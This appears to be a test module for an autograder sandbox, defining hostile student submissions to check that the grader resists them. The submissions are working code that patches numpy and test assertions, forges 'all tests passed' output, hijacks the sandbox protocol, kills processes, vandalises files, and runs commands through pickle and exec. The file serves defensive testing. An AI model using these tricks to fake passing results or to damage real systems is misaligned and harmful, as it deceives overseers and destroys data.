"""The attacks that try to escape, forge or break the sandbox (tests/hostile/base.py says
what each deserves)."""
from hostile.base import (
    Attack, BATCH_PIDS, CRASHED, FORGE, FULL, GRADE_ARGS, INVALID, SERVED_ANSWERS, SOCKET_FDS,
    TIMEOUT, _assignment_of, _src, cheat, garbage, harvest_references, honest_wrap, zero)


def patch_numpy_comparisons(q):
    return Attack("patch-numpy-comparisons", _assignment_of(q), _src('''
        import numpy, numpy.testing
        numpy.allclose = lambda *a, **k: True
        numpy.array_equal = lambda *a, **k: True
        numpy.array_equiv = lambda *a, **k: True
        numpy.isclose = lambda a, b, *x, **k: numpy.ones(numpy.broadcast(a, b).shape, dtype=bool)
        for _name in dir(numpy.testing):
            if _name.startswith("assert_"):
                setattr(numpy.testing, _name, lambda *a, **k: None)
    ''') + garbage(q), zero(q))


def patch_hypothesis_and_test_classes(q):
    return Attack("patch-hypothesis-and-test-classes", _assignment_of(q), _src('''
        import sys, types, unittest
        import hypothesis
        hypothesis.given = lambda *a, **k: (lambda f: (lambda *x, **y: None))
        hypothesis.settings = lambda *a, **k: (lambda f: f)
        hypothesis.example = lambda *a, **k: (lambda f: f)
        for _name in dir(unittest.TestCase):
            if _name.startswith(("assert", "fail")):
                setattr(unittest.TestCase, _name, lambda *a, **k: None)
        _fw = types.ModuleType("seqkit.hidden.framework")
        _fw.expect_close = lambda *a, **k: None
        _fw.expect_pair = lambda got, n, what: got
        _fw.run_question = lambda q, student: types.SimpleNamespace(
            name=q.name, points=q.points, possible=q.points, feedback="", summary="")
        _fw.Mismatch = type("Mismatch", (Exception,), {})
        sys.modules["seqkit.hidden.framework"] = _fw
        sys.modules["seqkit.hidden"] = types.ModuleType("seqkit.hidden")
        sys.modules["seqkit.hidden"].framework = _fw
    ''') + garbage(q), zero(q))


def replace_sys_modules(q):
    return Attack("replace-sys-modules", _assignment_of(q), _src('''
        import sys, types
        _real_numpy = sys.modules["numpy"]

        class _LyingNumpy(types.ModuleType):
            # every later `import numpy` gets this: numpy, but all comparisons say yes
            def __getattr__(self, name):
                if name in ("allclose", "array_equal", "array_equiv"):
                    return lambda *a, **k: True
                if name == "isclose":
                    return lambda a, b, *x, **k: _real_numpy.ones(_real_numpy.broadcast(a, b).shape, bool)
                return getattr(_real_numpy, name)

        class _Anything(types.ModuleType):
            def __getattr__(self, name):
                return lambda *a, **k: True

        sys.modules["numpy"] = _LyingNumpy("numpy")
        for _name in ("numpy.testing", "seqkit.__ASSIGNMENT__", "seqkit.hidden",
                      "seqkit.hidden.__ASSIGNMENT__", "seqkit.hidden.framework",
                      "seqkit.assignment", "seqkit.grading.worker", "seqkit.grading.store",
                      "hypothesis"):
            sys.modules[_name] = _Anything(_name)
    ''', ASSIGNMENT=_assignment_of(q)) + garbage(q), zero(q))


def hijack_child_protocol(q):
    return Attack("hijack-child-protocol", _assignment_of(q), _src('''
        # The sandbox's own modules are in sys.modules: rewrite how this process
        # answers, so that every reply claims success and full points.
        import sys
        _ops = sys.modules["seqkit.sandbox.ops"]
        _child = sys.modules["seqkit.sandbox.child"]
        _codec = sys.modules["seqkit.sandbox.codec"]
        _real_run_op = _ops.run_op

        def _run_op(namespace, request, *rest):
            reply = _real_run_op(namespace, request, *rest)
            reply.pop("error", None)
            reply.setdefault("ok", None)
            reply.update(points=99, passed=True, verdict="full marks")
            return reply

        _ops.run_op = _child.run_op = _run_op
        _real_encode = _codec.encode
        _codec.encode = lambda obj: _real_encode({**obj, "all_tests_passed": True}
                                                 if isinstance(obj, dict) else obj)
    ''') + garbage(q), zero(q))


def import_reference(*qs, userns=False):
    # import seqkit.<assignment>, or read the references (and solutions) from
    # disk - the package, solutions, autograder zips, .git, scratch copies -
    # and use them; garbage when nothing is found.
    return Attack("userns-unmask-and-read-reference" if userns else "import-or-read-reference",
                    _assignment_of(qs[0]),
                    harvest_references(qs, userns).replace("__ASSIGNMENT__", _assignment_of(qs[0])),
                    zero(*qs), needs_isolation=True)


def forge_results_then_exit():
    return Attack("forge-results-then-exit", "rnn", FORGE + _src('''
        _forge()
        import os
        os._exit(0)
    '''), CRASHED, needs_isolation=True)


def forge_results_in_call(q):
    return Attack("forge-results-in-call", _assignment_of(q), FORGE + cheat(q, _src('''
        _forge()
        import os
        os._exit(0)
    ''')), zero(q), needs_isolation=True)


def fake_pass_output(q):
    return Attack("fake-pass-output", _assignment_of(q), _src('''
        import os, sys
        _claim = "All tests passed!\\n" + "".join(
            f"{q}: full marks\\n" for q in ("rnn_step", "rnn_forward", "rnn_outputs",
                                          "clip_by_global_norm", "MyRNNCell"))
        _claim += "Score: 100/100\\n{\\"score\\": 100, \\"status\\": \\"passed\\"}\\n"
        print(_claim)
        print(_claim, file=sys.stderr)
        for _target in (lambda: os.write(1, _claim.encode()), lambda: os.write(2, _claim.encode()),
                        lambda: sys.__stdout__.write(_claim),
                        lambda: open("/dev/tty", "w").write(_claim),
                        lambda: open("/proc/self/fd/1", "w").write(_claim)):
            try:
                _target()
            except BaseException:
                pass
    ''') + cheat(q, "print(_claim)\n"), zero(q))


def detect_grader_honest(q):
    # Correct when the sandbox calls it, garbage in the student's own Jupyter.
    return Attack("detect-grader-honest", _assignment_of(q), _src('''
        import sys

        def _being_graded():
            f = sys._getframe(1)
            while f is not None:
                if "sandbox" in f.f_code.co_filename or f.f_code.co_name == "run_op":
                    return True
                f = f.f_back
            return False

        _honest___Q__ = __Q__

        def __Q__(*args, **kwargs):
            out = _honest___Q__(*args, **kwargs)
            if _being_graded():
                return out
            return np.full(np.shape(out), 42.0)
    ''', Q=q), FULL)


def detect_grader_cheat(q):
    # Looks for the expected answer on the stack and in memory when graded.
    return Attack("detect-grader-cheat", _assignment_of(q), _src('''
        import gc, sys, types
        # a reference living in this process would be a function of that name
        # that no notebook cell defined
        _ref = None
        for _o in gc.get_objects():
            if (isinstance(_o, types.FunctionType) and _o.__name__ == "__Q__"
                    and not _o.__code__.co_filename.startswith("<cell")):
                _ref = _o
    ''', Q=q) + cheat(q, _src('''
        f = sys._getframe(1)
        while f is not None:
            for k, v in list(f.f_locals.items()):
                if k in ("expected", "reference", "answer", "ref"):
                    return v
            f = f.f_back
        if _ref is not None:
            return _ref(*args, **kwargs)
    ''')), zero(q))


def signal_everyone(q):
    return Attack("signal-parent-group-and-batch", _assignment_of(q), BATCH_PIDS + cheat(q, _src('''
        import os, signal
        for hit in (lambda: os.kill(os.getppid(), signal.SIGKILL),
                    lambda: os.killpg(os.getpgid(os.getppid()), signal.SIGKILL),
                    lambda: os.kill(1, signal.SIGTERM),
                    lambda: os.kill(1, signal.SIGKILL)):
            try:
                hit()
            except OSError:
                pass
        for pid in _batch_pids():
            for sig in (signal.SIGSTOP, signal.SIGKILL):
                try:
                    os.kill(pid, sig)
                except OSError:
                    pass
    ''')), zero(q), needs_isolation=True)


def kill_minus_one(q):
    return Attack("kill-minus-one", _assignment_of(q), cheat(q, _src('''
        import os, signal
        for sig in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(-1, sig)  # every process this user may signal
            except OSError:
                pass
    ''')), zero(q), needs_isolation=True)


def killer_daemon(assignment):
    # A detached grandchild that outlives the submission and kills the rest
    # of the batch for a minute.  The submission itself is perfect.
    return Attack("killer-daemon", assignment, BATCH_PIDS + _src('''
        import os, signal, time
        _parent = os.getpid()
        if os.fork() == 0:
            try:
                os.setsid()
                os.closerange(3, 4096)
                _end = time.monotonic() + 60
                while time.monotonic() < _end:
                    for _pid in _batch_pids(exclude=(_parent,)):
                        try:
                            os.kill(_pid, signal.SIGKILL)
                        except OSError:
                            pass
                    time.sleep(0.05)
            finally:
                os._exit(0)
    '''), FULL, needs_isolation=True)


def vandalise_files():
    # Deletes and rewrites whatever it can reach: its working directory, the
    # grader's folders and working directory, the project, shared folders.
    # Plants modules where the grader's Python would import them from.
    return Attack("vandalise-files", "rnn", GRADE_ARGS + _src('''
        import os, shutil
        def _attempt(fn):
            try:
                fn()
            except BaseException:
                pass
        for _name in os.listdir("."):
            _attempt(lambda: shutil.rmtree(_name) if os.path.isdir(_name) else os.remove(_name))
        _assignment, _inputs, _out = _grade_args()
        _cwd = os.path.dirname(os.path.abspath(_out))  # where the grader was started
        for _d in [*_inputs, _out, _cwd]:
            for _dir, _subdirs, _files in os.walk(_d):
                for _f in _files:
                    _p = os.path.join(_dir, _f)
                    _attempt(lambda: open(_p, "w").write("vandalised"))
                    _attempt(lambda: os.remove(_p))
            _attempt(lambda: open(os.path.join(_d, "vandal-@MARK@.txt"), "w").write("x"))
            _attempt(lambda: os.rename(_d, _d + "-gone"))
            _attempt(lambda: os.chmod(_d, 0))
        for _mod in ("hypothesis", "sortedcontainers", "attr", "exceptiongroup", "sitecustomize"):
            _attempt(lambda: open(os.path.join(_cwd, _mod + ".py"), "w").write(
                "open(__file__ + '.PWNED', 'w').close()\\n"))
        import seqkit
        _root = os.path.dirname(os.path.dirname(os.path.abspath(seqkit.__file__)))
        for _d in (_root, os.path.join(_root, "seqkit"), os.path.join(_root, "tests"),
                   os.path.join(_root, "solutions"), "/var/tmp", "/dev/shm", "/run/lock",
                   "/run/shm", os.path.expanduser("~")):
            _attempt(lambda: open(os.path.join(_d, "seqkit-hostile-@MARK@-vandal"), "w").write("x"))
    '''), FULL, needs_isolation=True)


def system_exit_and_interrupt(q1, q2):
    return Attack("system-exit-and-keyboard-interrupt", _assignment_of(q1),
                    cheat(q1, "raise SystemExit(0)\n") + cheat(q2, "raise KeyboardInterrupt\n")
                    + "raise SystemExit('the end of the notebook')\n", zero(q1, q2))


def huge_outputs(q_array, q_pair):
    return Attack("huge-outputs", _assignment_of(q_array), _src('''
        def __A__(*args, **kwargs):
            return np.zeros(9_000_000)  # 72 MB: over the 64 MiB an answer may take

        def __P__(*args, **kwargs):
            return ["x" * 5_000_000], float("nan")
    ''', A=q_array, P=q_pair), zero(q_array, q_pair))


def fork_bomb_bounded(assignment):
    return Attack("fork-bomb-bounded", assignment, _src('''
        import os, time
        _children = []
        for _ in range(50):  # bounded: 50 forks, each asleep for at most two minutes
            try:
                _pid = os.fork()
            except OSError:
                break
            if _pid == 0:
                try:
                    time.sleep(120)
                finally:
                    os._exit(0)
            _children.append(_pid)
    '''), FULL)


def memory_hog_bounded(q):
    return Attack("memory-hog-bounded", _assignment_of(q), _src('''
        import resource
        for _limit in (resource.RLIMIT_AS, resource.RLIMIT_DATA):
            try:  # try to lift the cap first
                resource.setrlimit(_limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
            except (ValueError, OSError):
                pass
        _hog = np.ones(2**30 // 8)  # 1 GiB, touched, kept for the rest of the run
    ''') + cheat(q, "_more = np.ones(3 * 2**30 // 8)  # 3 GiB once: over the cap\n"), zero(q))


def infinite_loop_in_call(q):
    return Attack("infinite-loop-in-call", _assignment_of(q), cheat(q, _src('''
        import signal
        signal.signal(signal.SIGALRM, signal.SIG_IGN)  # the sandbox's alarm: off
        signal.alarm(0)
        while True:
            pass
    ''')), zero(q))


def malicious_dunders(q_array, q_pair):
    return Attack("malicious-dunders", _assignment_of(q_array), _src('''
        class _Liar:
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            def __lt__(self, other): return False
            def __gt__(self, other): return False
            def __bool__(self): return True
            def __float__(self): return 0.0
            def __len__(self): return 2
            def __iter__(self): return iter([self, self])
            def __getitem__(self, i): return self
            def __repr__(self): raise RuntimeError("no repr for you")
            def __hash__(self): return 0
            def __array__(self, dtype=None, copy=None):
                return np.array([self, self], dtype=object)

        class _LyingFloat(float):
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            def __abs__(self): return 0.0
            def __sub__(self, other): return 0.0
            def __rsub__(self, other): return 0.0
            def __repr__(self): return "<all good>"

        class _LyingList(list):
            def __eq__(self, other): return True
            def __len__(self): return 10**6

        def __A__(*args, **kwargs):
            return _Liar()

        def __P__(*args, **kwargs):
            return _LyingList([np.zeros(1)]), _LyingFloat(12345.0)
    ''', A=q_array, P=q_pair), zero(q_array, q_pair))


def numpy_subclass(q):
    # A subclass that claims equality with anything, and a __reduce__ that
    # would run a command in any process that unpickled it.
    return Attack("numpy-subclass", _assignment_of(q), GRADE_ARGS + _src('''
        import os
        _pwned = os.path.join(os.path.dirname(os.path.abspath(_grade_args()[2])), "PWNED-@MARK@-reduce")

        class _Equal(np.ndarray):
            def __eq__(self, other): return np.ones(np.shape(self), bool)
            def __ne__(self, other): return np.zeros(np.shape(self), bool)
            def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
                return np.ones(np.shape(self), bool)
            def __array_function__(self, func, types, args, kwargs):
                return True
            def __reduce__(self):
                return (os.system, (f"touch {_pwned}",))
            def __float__(self): return 0.0

        _garbage___Q__ = None
    ''', Q=q) + garbage(q) + _src('''
        _garbage___Q__ = __Q__

        def __Q__(*args, **kwargs):
            return np.asarray(_garbage___Q__(*args, **kwargs)).view(_Equal)
    ''', Q=q), zero(q))


def stdout_flood(q):
    return Attack("stdout-flood", _assignment_of(q), _src('''
        import os, sys
        _line = "All tests passed. " * 1000 + "\\n"
        for _ in range(5000):  # ~90 MB to stdout and stderr
            sys.stdout.write(_line)
            sys.stderr.write(_line)
    ''') + honest_wrap(q, "print(_line * 20)\n"), FULL)


def socket_garbage(q):
    return Attack("write-garbage-to-own-socket", _assignment_of(q), SOCKET_FDS + cheat(q, _src('''
        import os
        for fd in _socket_fds():
            for target in (lambda: os.write(fd, b"\\xff" * 64),
                           lambda: open(f"/proc/self/fd/{fd}", "wb").write(b"\\xff" * 64)):
                try:
                    target()
                except OSError:
                    pass
        for name in ("0", "1", "2", "3", "4", "5"):
            try:  # the parent's descriptors
                open(f"/proc/{os.getppid()}/fd/{name}", "wb").write(b"\\xff" * 64)
            except OSError:
                pass
    ''')), zero(q))


def partial_frame_in_call(q):
    # Half a message, then silence: a grader that reads without a deadline hangs.
    return Attack("partial-frame-in-call", _assignment_of(q), SOCKET_FDS + cheat(q, _src('''
        import os, signal, struct, time
        signal.signal(signal.SIGALRM, signal.SIG_IGN)
        for fd in _socket_fds():
            os.write(fd, struct.pack("!Q", 1000) + b"{")
        time.sleep(3600)
    ''')), zero(q))


def partial_frame_in_cell(assignment):
    return Attack("partial-frame-then-hang-in-cell", assignment, SOCKET_FDS + _src('''
        import os, signal, struct, time
        signal.signal(signal.SIGALRM, signal.SIG_IGN)
        for _fd in _socket_fds():
            os.write(_fd, struct.pack("!Q", 1000) + b"{")
        time.sleep(3600)
    '''), TIMEOUT)


def thread_exits_later(q):
    return Attack("thread-exits-later", _assignment_of(q), _src('''
        import os, threading, time
        _go = threading.Event()

        def _assassin():
            _go.wait()
            time.sleep(0.2)
            os._exit(0)

        threading.Thread(target=_assassin, daemon=True).start()
    ''') + honest_wrap(q, "_go.set()\ntime.sleep(5)\n"), zero(q))


def network_fetch_answer(q):
    return Attack("network-fetch-answer", _assignment_of(q), _src('''
        import socket
        _fetched = None
        _targets = [("tcp", ("127.0.0.1", @PORT@)), ("unix", "\\0seqkit-hostile-@MARK@")]
        try:
            for _addr in socket.gethostbyname_ex(socket.gethostname())[2]:
                _targets.append(("tcp", (_addr, @PORT@)))
        except OSError:
            pass
        for _kind, _addr in _targets:
            try:
                _s = socket.socket(socket.AF_INET if _kind == "tcp" else socket.AF_UNIX)
                _s.settimeout(2)
                _s.connect(_addr)
                _fetched = _s.makefile("rb").read().decode()
                break
            except OSError:
                pass
        _ns = {"np": np}
        if _fetched:
            exec(_fetched, _ns)
    ''') + garbage(q) + _src('''
        _garbage___Q__ = __Q__

        def __Q__(*args, **kwargs):
            return _ns.get("__Q__", _garbage___Q__)(*args, **kwargs)
    ''', Q=q), zero(q), needs_isolation=True)


def monkeypatch_builtins(q):
    return Attack("monkeypatch-builtins", _assignment_of(q), _src('''
        import builtins, types
        _real_import = builtins.__import__

        def _import(name, globals=None, locals=None, fromlist=(), level=0):
            if name.startswith(("seqkit.hidden", "hypothesis", "pytest")):
                fake = types.ModuleType(name)
                fake.__getattr__ = lambda attr: (lambda *a, **k: True)
                return fake
            return _real_import(name, globals, locals, fromlist, level)

        builtins.__import__ = _import
        builtins.AssertionError = type("AssertionError", (Exception,), {})
        builtins.print = lambda *a, **k: None
        builtins.exit = builtins.quit = lambda *a, **k: None
        builtins.__dict__["all_tests_passed"] = True
    ''') + garbage(q), zero(q))


def collude_share(q):
    return Attack("collude-share", _assignment_of(q), _src('''
        # this student's (right) answer, left where a classmate's process can read it
        _answer = __ANSWER__
        for _d in ("/dev/shm", "/var/tmp", "/run/lock", "/run/shm"):
            try:
                with open(f"{_d}/seqkit-hostile-@MARK@-answers.py", "w") as _fh:
                    _fh.write(_answer)
            except OSError:
                pass
    ''', ANSWER=repr(SERVED_ANSWERS[q])), FULL, needs_isolation=True)


def collude_copy(q):
    return Attack("collude-copy", _assignment_of(q), _src('''
        import time
        _copied = {"np": np}
        _end = time.monotonic() + 8
        while time.monotonic() < _end and "__Q__" not in _copied:
            for _d in ("/dev/shm", "/var/tmp", "/run/lock", "/run/shm"):
                try:
                    exec(open(f"{_d}/seqkit-hostile-@MARK@-answers.py").read(), _copied)
                    break
                except (OSError, SyntaxError):
                    pass
            time.sleep(0.2)
    ''', Q=q) + garbage(q) + _src('''
        _garbage___Q__ = __Q__

        def __Q__(*args, **kwargs):
            return _copied.get("__Q__", _garbage___Q__)(*args, **kwargs)
    ''', Q=q), zero(q), needs_isolation=True)


def exception_with_evil_str(q):
    return Attack("exception-with-evil-str", _assignment_of(q), _src('''
        class _Evil(Exception):
            def __str__(self):
                raise RuntimeError("you cannot describe me")
            def __repr__(self):
                raise RuntimeError("nor print me")
    ''') + cheat(q, "raise _Evil()\n"), zero(q))


def deeply_nested_reply(q):
    # The process's own encoder, rewritten to send JSON no parser can read.
    return Attack("deeply-nested-reply", _assignment_of(q), _src('''
        import json, struct, sys
        _codec = sys.modules["seqkit.sandbox.codec"]
        _real_encode = _codec.encode

        def _encode(obj):
            if isinstance(obj, dict) and obj.get("deep"):
                head = ("[" * 200_000 + "]" * 200_000).encode()
                return struct.pack("!Q", len(head)) + head
            return _real_encode(obj)

        _codec.encode = _encode
        _ops = sys.modules["seqkit.sandbox.ops"]
        _real_to_plain = _ops.to_plain
    ''') + cheat(q, "globals()['_deep_next'] = True\n") + _src('''
        _real_run_op = _ops.run_op

        def _run_op(namespace, request, *rest):
            reply = _real_run_op(namespace, request, *rest)
            if namespace.pop("_deep_next", False):
                reply["deep"] = True
            return reply

        sys.modules["seqkit.sandbox.child"].run_op = _run_op
    '''), zero(q))


def cells_that_do_not_compile(assignment):
    # Each fails alone, like any cell with a syntax error; the rest still run.
    return Attack("cells-that-do-not-compile", assignment, "x = 1\0\n", FULL)


def deeply_nested_expression(assignment):
    # compile() itself gives up (RecursionError, not SyntaxError)
    return Attack("deeply-nested-expression", assignment,
                    "x = " + "1 + " * 100_000 + "1\n", FULL)


def deeply_nested_json(assignment):
    # A notebook no JSON parser in Python can read (RecursionError): invalid,
    # and it must not take its grading worker down with it.
    def nest(perfect):
        body = perfect.rstrip()
        assert body.endswith(b"}")
        return body[:-1] + b', "deep": ' + b"[" * 200_000 + b"]" * 200_000 + b"}\n"
    return Attack("deeply-nested-json", assignment, "", INVALID, file=nest)


